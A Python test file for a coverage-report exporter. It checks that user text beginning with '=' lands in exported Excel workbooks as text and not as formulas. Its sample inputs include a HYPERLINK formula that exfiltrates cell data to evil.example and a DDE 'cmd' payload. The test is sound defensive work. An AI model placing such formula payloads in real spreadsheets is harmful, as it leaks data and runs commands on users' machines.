"""User text in the exported workbooks stays text: a file name, a framework name or an
entry title that starts with "=" is never written as a live formula."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

from openpyxl import load_workbook

from evidence_app.coverage.export import write_coverage_xlsx, write_package
from storage import CatalogEntry, Framework
from tests import factories

EVIL_LINK = '=HYPERLINK("http://evil.example/steal?d="&A1,"点击查看")'


def _cells(data: bytes) -> list:
    workbook = load_workbook(io.BytesIO(data))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def test_formulas_in_user_text_are_written_as_text(runtime, make_framework, tmp_path: Path) -> None:
    fid = make_framework()["framework_id"]
    path = tmp_path / "2.3.4-1 =1+2 名单.txt"
    path.write_text("迅达电梯订单班学生名单", encoding="utf-8")
    factories.ingest(runtime, [path], fid)
    with runtime.unit_of_work() as s:
        s.get(Framework, fid).name = EVIL_LINK
        entry = s.query(CatalogEntry).filter_by(framework_id=fid, code="2.3.4-2").one()
        entry.title = "=cmd|' /C calc'!A0"

    report = io.BytesIO()
    with runtime.session() as s:
        write_coverage_xlsx(s, fid, report)
    package = io.BytesIO()
    with runtime.unit_of_work() as s:
        write_package(s, runtime, fid, package)
    with zipfile.ZipFile(package) as archive:
        catalog = next(n for n in archive.namelist() if n.endswith(".xlsx"))
        catalog_bytes = archive.read(catalog)

    for data in (report.getvalue(), catalog_bytes):
        cells = _cells(data)
        assert [c.coordinate for c in cells if c.data_type == "f"] == []
        texts = {c.value for c in cells if isinstance(c.value, str)}
        assert any(t.startswith("=") for t in texts)  # the text is there, as text
    report_texts = {c.value for c in _cells(report.getvalue())}
    assert EVIL_LINK in report_texts
    catalog_texts = {c.value for c in _cells(catalog_bytes)}
    assert "=cmd|' /C calc'!A0" in catalog_texts
